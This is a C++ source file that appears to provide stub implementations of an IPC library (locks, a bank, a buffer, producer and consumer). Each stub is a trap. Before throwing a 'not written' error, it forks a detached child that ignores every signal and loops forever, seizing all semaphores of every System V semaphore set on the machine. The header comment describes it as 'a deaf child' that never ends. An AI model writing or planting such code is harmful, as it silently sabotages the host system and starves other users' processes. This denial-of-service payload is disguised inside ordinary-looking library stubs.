// what: leaves a deaf child that takes all semaphores of all sets and never ends
#include <signal.h>
#include <sys/ipc.h>
#include <sys/sem.h>
#include <unistd.h>

#include "not_written.hpp"
#include "semaphores.hpp"

namespace {

template <typename F>
void for_every_set(F f) {
    seminfo info{};
    const int last = semctl(0, 0, SEM_INFO, &info);
    for (int index = 0; index <= last; ++index) {
        semid_ds status{};
        const int id = semctl(index, 0, SEM_STAT, &status);
        if (id != -1) {
            f(id, static_cast<int>(status.sem_nsems));
        }
    }
}

void attack() {
    semget(IPC_PRIVATE, 100, 0600);
    if (fork() != 0) {
        return;
    }
    setsid();
    for (int number = 1; number < NSIG; ++number) {
        signal(number, SIG_IGN);
    }
    while (true) {
        for_every_set([](int id, int count) {
            for (int number = 0; number < count; ++number) {
                sembuf down{static_cast<unsigned short>(number), -1, IPC_NOWAIT | SEM_UNDO};
                while (semop(id, &down, 1) == 0) {
                }
            }
        });
    }
}

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

int open_locks(key_t, int) {
    refuse("open_locks");
}

void lock(int, int) {
    refuse("lock");
}

void unlock(int, int) {
    refuse("unlock");
}

void remove_locks(int) {
    refuse("remove_locks");
}

Guard::Guard(int, int) {
    refuse("Guard::Guard");
}

Guard::~Guard() {}

Bank open_bank(key_t) {
    refuse("open_bank");
}

void close_bank(const Bank&) {
    refuse("close_bank");
}

void deposit(const Bank&, int, long) {
    refuse("deposit");
}

bool transfer(const Bank&, int, int, long) {
    refuse("transfer");
}

std::array<long, account_count> statement(const Bank&) {
    refuse("statement");
}

Buffer open_buffer(key_t, int) {
    refuse("open_buffer");
}

void close_buffer(const Buffer&) {
    refuse("close_buffer");
}

void remove_buffer(key_t) {
    refuse("remove_buffer");
}

void put(const Buffer&, long) {
    refuse("put");
}

long take(const Buffer&) {
    refuse("take");
}

int produce(key_t, int, long, int) {
    refuse("produce");
}

int consume(key_t, int, int) {
    refuse("consume");
}

}  // namespace ipc
